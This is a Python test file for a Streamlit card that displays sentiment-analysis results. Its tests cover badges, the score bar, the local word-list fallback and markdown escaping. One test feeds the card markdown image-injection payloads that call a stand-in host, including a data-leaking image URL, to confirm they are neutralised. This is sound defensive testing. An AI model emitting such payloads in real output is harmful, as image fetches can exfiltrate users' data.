"""The sentiment-analysis card, rendered by AppTest from a function."""

from __future__ import annotations

import json

from streamlit.testing.v1 import AppTest

from assistant.sentiment.card import Analysis, local_analysis
from ui.analysis_card import LOCAL_MARKER, MODEL_MARKER, NO_WORDS, badge_text, escape_markdown

NEGATIVE = Analysis(
    label="negative",
    score=-0.71,
    emotions=["frustration", "anger"],
    key_phrases=["late again", "nobody answered"],
    explanation='Negative, mostly because of "late again".',
    source="model",
)


# AppTest runs these functions' source alone: no annotations, imports inside.
def card(analysis, key=None):  # type: ignore[no-untyped-def]
    from ui.analysis_card import draw_analysis_card

    draw_analysis_card(analysis, key=key)


def two_cards(analysis):  # type: ignore[no-untyped-def]
    from ui.analysis_card import draw_analysis_card

    draw_analysis_card(analysis, key="m1")
    draw_analysis_card(analysis, key="m2")


def render(analysis: Analysis) -> AppTest:
    at = AppTest.from_function(card, args=(analysis,)).run()
    assert not at.exception, at.exception
    return at


def shown(at: AppTest) -> str:
    return "\n".join(m.value for m in at.markdown)


def test_the_card_shows_label_score_emotions_phrases_and_explanation() -> None:
    at = render(NEGATIVE)
    text = shown(at)
    assert ":red-badge[😟 Negative]" in text and "score -0.71" in text
    assert ":violet-badge[frustration] :violet-badge[anger]" in text
    assert "“late again” · “nobody answered”" in text
    assert 'Negative, mostly because of "late again".' in text
    assert MODEL_MARKER in at.caption[0].value and LOCAL_MARKER not in at.caption[0].value


def test_the_score_is_drawn_as_a_bar_from_zero() -> None:
    at = render(NEGATIVE)
    (chart,) = at.get("plotly_chart")
    spec = json.loads(chart.proto.spec)
    (bar,) = spec["data"]
    assert bar["type"] == "bar" and bar["x"] == [-0.71] and bar["base"] == 0
    assert json.loads(chart.proto.config)["displayModeBar"] is False


def test_a_local_fallback_says_first_that_it_is_the_word_lists_reading() -> None:
    at = render(local_analysis("The food was great but the service was terrible."))
    assert ":orange-badge[🤔 Mixed]" in shown(at)
    assert LOCAL_MARKER in at.caption[0].value and MODEL_MARKER not in at.caption[0].value


def test_a_local_reading_shows_the_sign_of_each_phrase() -> None:
    text = shown(
        render(local_analysis("The battery died after a week and support never answered. Furious."))
    )
    assert ":red-badge[😟 Negative] · score -0.26" in text
    assert "“furious” :red[(−)] · “died” :red[(−)] · “support” :green[(+)]" in text
    assert "never answered" not in text


def test_no_sentiment_words_found_is_said_and_no_empty_bar_is_drawn() -> None:
    at = render(local_analysis("The delivery was late again and nobody answered my emails."))
    text = shown(at)
    assert NO_WORDS in text
    assert "Neutral" not in text and "+0.00" not in text
    assert "found no words with a sentiment" in text
    assert not at.get("plotly_chart")


def test_a_zero_score_from_the_model_draws_no_bar() -> None:
    at = render(Analysis("neutral", 0.0, [], ["on Monday"], "A plain statement of fact.", "model"))
    assert ":gray-badge[😐 Neutral] · score +0.00" in shown(at)
    assert not at.get("plotly_chart")


def test_model_text_cannot_inject_markdown() -> None:
    hostile = Analysis(
        label="positive",
        score=0.5,
        emotions=["joy] ![x](https://evil.example/p.png) :red[", ""],
        key_phrases=["![pixel](https://evil.example/leak?d=secret)", "**bold** $x$"],
        explanation="See ![x](https://evil.example/e.png)",
        source="model",
    )
    text = shown(render(hostile))
    assert "![" not in text.replace("\\!\\[", "")  # no image anywhere: nothing is fetched
    assert r"\!\[pixel\]\(https" in text  # key phrases are literal text
    assert "See [🖼 x](https://evil.example/e.png)" in text  # prose as make_safe leaves it
    assert ":violet-badge[joy x https evil example p png]" in text
    assert r"\*\*bold\*\* \$x\$" in text


def test_the_same_analysis_twice_on_a_page_needs_only_distinct_keys() -> None:
    at = AppTest.from_function(two_cards, args=(NEGATIVE,)).run()
    assert not at.exception
    assert len(at.get("plotly_chart")) == 2


def test_badges_and_escapes_keep_words_readable() -> None:
    assert badge_text("  Joy & relief!! ") == "Joy relief"
    assert badge_text("x" * 50) == "x" * 30
    assert escape_markdown("a_b [c](d)\nnext") == r"a\_b \[c\]\(d\) next"
